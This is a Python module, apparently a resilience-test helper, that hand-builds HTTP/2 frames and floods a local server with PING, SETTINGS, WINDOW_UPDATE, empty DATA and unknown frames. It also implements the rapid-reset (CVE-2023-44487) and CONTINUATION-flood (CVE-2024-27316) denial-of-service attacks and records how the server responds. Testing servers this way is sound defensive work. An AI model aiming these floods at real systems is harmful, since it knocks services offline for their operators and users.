"""HTTP/2 by hand, for what no well-behaved client sends: floods of frames on a raw socket (RFC 9113)."""

import select
import socket
import struct
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
ACK, END_HEADERS = 1, 4
ENHANCE_YOUR_CALM = 11


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    """A header that enters no table (RFC 7541, 6.2.2)."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call(path: str) -> bytes:
    """The header block of a gRPC call."""
    pairs = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "x", "te": "trailers"}
    pairs["content-type"] = "application/grpc"
    return b"".join(_literal(name.encode(), value.encode()) for name, value in pairs.items())


@dataclass(frozen=True, slots=True)
class End:
    """How a flood ended. sent: bytes; seconds: it lasted; goaway: its code if the server said goodbye."""

    sent: int
    seconds: float
    closed: bool
    goaway: int | None


def flood(
    port: int, frames: Callable[[], Iterator[bytes]], seconds: float, path: str = "", until_goaway: bool = False
) -> End:
    """Send frames as fast as the server takes them, until it closes the connection or time is up.

    frames  makes chunks of frames, without end
    path    of a call to open on stream 1 before; "" for none
    until_goaway  stop when the server says goodbye, not when it closes
    """
    answers = bytearray()
    with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
        first = PREFACE + frame(SETTINGS)
        if path:
            first += frame(HEADERS, END_HEADERS, 1, call(path))
        connection.sendall(first)
        connection.setblocking(False)
        chunks, left = frames(), memoryview(b"")
        began, sent, closed = time.monotonic(), 0, False
        while not closed and time.monotonic() - began < seconds:
            readable, writable, _ = select.select([connection], [connection], [], 0.05)
            if readable:
                closed = _drain(connection, answers)
                if until_goaway and _goaway(bytes(answers)) is not None:
                    break
            if writable and not closed:
                left = left or memoryview(next(chunks))
                try:
                    done = connection.send(left)
                except BlockingIOError:
                    continue
                except OSError:
                    closed = True
                else:
                    sent, left = sent + done, left[done:]
        return End(sent, time.monotonic() - began, closed, _goaway(bytes(answers)))


def _drain(connection: socket.socket, answers: bytearray) -> bool:
    """Read what is there. Returns whether the server has closed."""
    try:
        while True:
            more = connection.recv(65536)
            if not more:
                return True
            answers += more
            if len(answers) > 2**20:
                del answers[: -(2**16)]
    except BlockingIOError:
        return False
    except OSError:
        return True


def _goaway(answers: bytes) -> int | None:
    """The code of a GOAWAY, which is among the last frames."""
    at = 0
    while at + 9 <= len(answers):
        size = int.from_bytes(answers[at : at + 3])
        if answers[at + 3] == GOAWAY:
            return int.from_bytes(answers[at + 13 : at + 17])
        at += 9 + size
    return None


def pings() -> Iterator[bytes]:
    while True:
        yield frame(PING, payload=bytes(8)) * 500


def ping_acks() -> Iterator[bytes]:
    while True:
        yield frame(PING, ACK, payload=bytes(8)) * 500


def settings() -> Iterator[bytes]:
    while True:
        yield frame(SETTINGS, payload=struct.pack(">HI", 4, 65535)) * 500


def window_updates() -> Iterator[bytes]:
    while True:
        yield frame(WINDOW_UPDATE, payload=struct.pack(">I", 1)) * 500


def resets(path: str) -> Callable[[], Iterator[bytes]]:
    """Calls that are taken back at once (CVE-2023-44487)."""

    def chunks() -> Iterator[bytes]:
        stream = 3
        while True:
            chunk = bytearray()
            for _ in range(100):
                chunk += frame(HEADERS, END_HEADERS, stream, call(path))
                chunk += frame(RST_STREAM, stream=stream, payload=struct.pack(">I", 8))
                stream += 2
            yield bytes(chunk)

    return chunks


def continuations() -> Iterator[bytes]:
    """Headers that never end (CVE-2024-27316 and its kin)."""
    yield frame(HEADERS, 0, 3, call("/x/y"))
    while True:
        yield frame(CONTINUATION, 0, 3, _literal(b"x", b"y" * 100) * 8) * 50


def empty_data() -> Iterator[bytes]:
    """Data of no bytes on the call that is open."""
    while True:
        yield frame(DATA, 0, 1) * 500


def unknown() -> Iterator[bytes]:
    while True:
        yield frame(0xBB) * 500
